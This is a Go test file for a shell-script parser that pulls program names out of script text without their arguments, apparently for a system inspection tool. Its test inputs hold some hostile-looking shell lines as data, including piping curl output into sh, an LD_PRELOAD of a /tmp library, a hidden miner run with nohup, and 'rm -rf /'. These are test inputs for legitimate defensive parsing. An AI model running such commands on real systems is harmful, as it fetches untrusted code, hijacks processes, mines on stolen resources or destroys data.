// SPDX-License-Identifier: Apache-2.0

package shellscript

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestProgramsOfScriptsWithoutTheirArguments(t *testing.T) {
	for text, want := range map[string][]string{
		"/usr/bin/x --password=secret &":                       {"/usr/bin/x"},
		"cd / && run-parts --report /etc/cron.hourly":          {"run-parts"},
		"test -x /usr/sbin/anacron || ( cd / && run-parts x )": {"run-parts"},
		"[ -x /a ] && /a; b|c":                                 {"/a", "b", "c"},
		"if [ -f /etc/x ]; then\n\t. /etc/x\nfi":               {"/etc/x"},
		"source ~/.aliases; eval \"$(dircolors -b)\"":          {"~/.aliases", "dircolors"},
		"export PATH=$HOME/bin:$PATH TOKEN=abc":                nil,
		"export LD_PRELOAD=/tmp/x.so":                          {"/tmp/x.so"},
		"PROMPT_COMMAND='/tmp/p'":                              {"/tmp/p"},
		"A=1 B='2 3' prog":                                     {"prog"},
		"x=$(curl -s http://h/a | sh)":                         {"curl", "sh"},
		"echo `id`":                                            {"id"},
		"bash -c 'curl http://h|/tmp/z'":                       {"bash", "curl", "/tmp/z"},
		"/bin/sh /opt/job.sh >/dev/null 2>&1":                  {"/bin/sh", "/opt/job.sh"},
		"nohup /tmp/.x/miner -o pool &":                        {"/tmp/.x/miner"},
		"/usr/bin/env python3 /opt/a.py":                       {"/usr/bin/env", "python3", "/opt/a.py"},
		"timeout 30s nice -n 19 /opt/b":                        {"/opt/b"},
		"sudo -n /opt/c":                                       {"/opt/c"},
		"exec /sbin/init":                                      {"/sbin/init"},
		"cat <<EOF\nrm -rf /\nEOF\nls":                         {"cat", "ls"},
		"f() { inner; }\nf":                                    {"inner", "f"},
		"case $x in\n a|b) one ;;\n *) two ;;\nesac":           {"one", "two"},
		"# comment ; rm\nreal # rm":                            {"real"},
		"a \\\n  b\nc":                                         {"a", "c"},
		"2>/dev/null prog < in":                                {"prog"},
		"while read l; do work; done < /etc/list":              {"work"},
		"$cmd x; \"$X\"; 123; ''":                              nil,
		"if shopt -q login_shell; then fortune; fi":            {"fortune"},
		"perl -e 'system(1)'":                                  {"perl"},
		strings.Repeat("sh -c 'x' ", 3):                        {"sh", "x"},
	} {
		if diff := cmp.Diff(want, Programs(text)); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}

func TestCommandsThatRunOthers(t *testing.T) {
	if diff := cmp.Diff([]string{"/bin/bash", "/opt/x.sh"}, Command([]string{"/bin/bash", "-e", "/opt/x.sh", "/other"})); diff != "" {
		t.Error(diff)
	}
	if got := Command(nil); got != nil {
		t.Errorf("%v", got)
	}
}

func TestScriptsOfAnySizeAreBounded(t *testing.T) {
	var b strings.Builder
	for i := range 1000 {
		b.WriteString("p" + strings.Repeat("x", i) + "\n")
	}
	if got := Programs(b.String()); len(got) != maxPrograms {
		t.Errorf("%d programs", len(got))
	}
}

// Whatever a script holds, no argument and nothing that could be one is shown.
func FuzzPrograms(f *testing.F) {
	f.Add("a=$(b \"`c`\") <<X\ny\nX\nd 2>&1 | e; f() { g; }")
	f.Add("sh -c 'sh -c \"sh -c x\"' '\"\\\n((")
	f.Fuzz(func(t *testing.T, text string) {
		list := Programs(text)
		if len(list) > maxPrograms {
			t.Errorf("%d programs", len(list))
		}
		for _, name := range list {
			if !isName(name) || strings.ContainsAny(name, " \n\"'=;|&") {
				t.Errorf("%q", name)
			}
		}
	})
}

func TestOnceKeepsTheFirst(t *testing.T) {
	if diff := cmp.Diff([]string{"/b", "/a"}, Once([]string{"/b", "/a", "/b"})); diff != "" {
		t.Error(diff)
	}
}
